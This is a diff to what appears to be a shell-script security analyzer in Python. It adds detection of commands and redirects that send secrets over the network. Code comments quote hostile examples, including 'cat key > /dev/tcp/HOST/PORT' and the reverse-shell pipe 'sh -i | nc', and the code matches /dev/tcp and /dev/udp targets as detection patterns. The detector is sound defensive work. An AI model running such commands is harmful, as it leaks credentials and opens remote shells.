@@ -15,11 +15,13 @@ from __future__ import annotations
 
 from collections.abc import Callable
 
-from .._budget import Budget
+from .._budget import STEPS_PER_COMMAND, Budget
 from .._model import CommandRecord, Position, Span
 from .._syntax import Origin, Visitor, ast
+from ..programs.sending import SENDERS
 from ._contexts import contexts_of, record_writes, run_written, wrapper_code
 from ._normalize import is_unresolved, normalize_word, part_source
+from ._paths import literal_prefix
 from ._resolve import (
     CommandName,
     changed_directory,
@@ -36,6 +38,7 @@ from ._resolve import (
     written_by,
 )
 from ._risks import NO_RISKS, PRODUCES_UNTRUSTED_DATA, command_risks
+from ._secrets import Written, writes_files
 from ._state import Frame, WalkConfig, WalkState, WrittenScript
 from ._subjects import (
     Arg,
@@ -57,9 +60,6 @@ from ._variables import Env
 from ._wrappers import Unwrapped, unwrap
 
 _DIRECTORY_CHANGERS = frozenset({"cd", "pushd", "popd"})
-# Steps charged for walking one simple command, plus one per word (see _budget):
-# resolving it and running its rules costs about this much more than building its node.
-STEPS_PER_COMMAND = 8
 _TAINT = frozenset({Risk.TAINT})
 
 
@@ -123,13 +123,15 @@ class Walker(Visitor[Frame, frozenset[Risk]]):
         # of one name must not copy 2,000 names into every stage's stdin).
         feeders: dict[str, None] = {}
         risks = NO_RISKS
+        stdin = frame.stdin
         for index, command in enumerate(commands):
             if index == 0:
-                stage_frame = frame.with_stdin(frame.stdin, piped)
+                stage_frame = frame.with_stdin(stdin, piped)
             else:
                 feeder = Span(commands[0].span.start, commands[index - 1].span.end)
                 operator = node.operators[index - 1] if index - 1 < len(node.operators) else "|"
-                stdin = Stdin(StdinKind.PIPE, feeder, operator, feeders=tuple(feeders), writer=commands[index - 1])
+                writer = commands[index - 1]
+                stdin = Stdin(StdinKind.PIPE, feeder, operator, feeders=tuple(feeders), writer=writer, upstream=stdin)
                 stage_frame = frame.with_stdin(stdin, True)
             if type(command) is ast.SimpleCommand:
                 # The names a stage runs feed later stages' stdin (`sh -i | nc`).
@@ -179,7 +181,10 @@ class Walker(Visitor[Frame, frozenset[Risk]]):
 
     def visit_redirected(self, node: ast.Redirected, frame: Frame) -> frozenset[Risk]:
         stdin, risks = self.redirects(node.redirects, frame, None, emit=True)
-        return risks | self.visit(node.command, frame.with_stdin(stdin, frame.in_pipeline))
+        risks = risks | self.visit(node.command, frame.with_stdin(stdin, frame.in_pipeline))
+        if self.reporting and writes_files(node, ()):
+            self.state.writes.append(Written(node, frame.env, frame.stdin, self.state.cwd))
+        return risks
 
     # -- words -------------------------------------------------------------------------------
 
@@ -283,7 +288,35 @@ class Walker(Visitor[Frame, frozenset[Risk]]):
             found = self.run_command(command_argv, index, name, unwrapped, node.span, frame, stdin, node.redirects)
             if found:
                 risks = risks | found
+        if self.reporting:
+            if node.redirects:
+                self.redirect_senders(node, frame)
+            if writes_files(node, name.names):
+                self.state.writes.append(Written(node, env, frame.stdin, self.state.cwd))
         return risks
+
+    def redirect_senders(self, node: ast.SimpleCommand, frame: Frame) -> None:
+        """`cat key > /dev/tcp/HOST/PORT`: a redirect that sends the command's output over the network."""
+        for redirect in node.redirects:
+            target_word = redirect.target
+            if (
+                target_word is None
+                or redirect.fd not in (None, "1")
+                or not redirect.operator.startswith((">", "&>"))
+                # The common case, a literal file (`> out.txt`), is ruled out before normalising it.
+                or not target_word.parts
+                or (type(target_word.parts[0]) is ast.Literal and not target_word.parts[0].text.startswith("/dev/"))
+            ):
+                continue
+            for target in normalize_word(target_word, frame.env):
+                known = target.value if target.value is not None else literal_prefix(target)
+                if known.startswith(("/dev/tcp/", "/dev/udp/")):
+                    state = self.state
+                    flow = self.config.secrets.redirect_sender(
+                        node, target, frame.location, frame.env, frame.stdin, state.view()
+                    )
+                    if flow is not None:
+                        self.sink.flow(flow)
 
     def words(
         self, words: tuple[ast.Word, ...], frame: Frame, name_word: ast.Word | None
@@ -337,6 +370,10 @@ class Walker(Visitor[Frame, frozenset[Risk]]):
                 self.sink.command(subject)
                 if state.functions or state.loops:
                     state.track_spawn(each, span, in_pipeline=frame.in_pipeline, background=frame.background)
+                if each in SENDERS:
+                    flow = self.config.secrets.sender(each, args, span, frame.location, frame.env, stdin, state.view())
+                    if flow is not None:
+                        self.sink.flow(flow)
             own = command_risks(each, args, name.source, self.tables)
             downloaded_to = None
             if own:
@@ -442,6 +479,14 @@ class Walker(Visitor[Frame, frozenset[Risk]]):
 
     def emit_code(self, subject: CodeFactSubject) -> None:
         self.sink.code(subject)
+
+    def send_secrets(
+        self, label: str, url: str | None, data_from: tuple[tuple[str, str | None], ...], span: Span, frame: Frame
+    ) -> None:
+        secrets = self.config.secrets
+        flow = secrets.code_sender(label, url, data_from, span, frame.location, frame.env, self.state.view())
+        if flow is not None:
+            self.sink.flow(flow)
 
     def too_deep(self, span: Span, frame: Frame, label: str) -> None:
         self.sink.too_deep(span, frame.location, label)
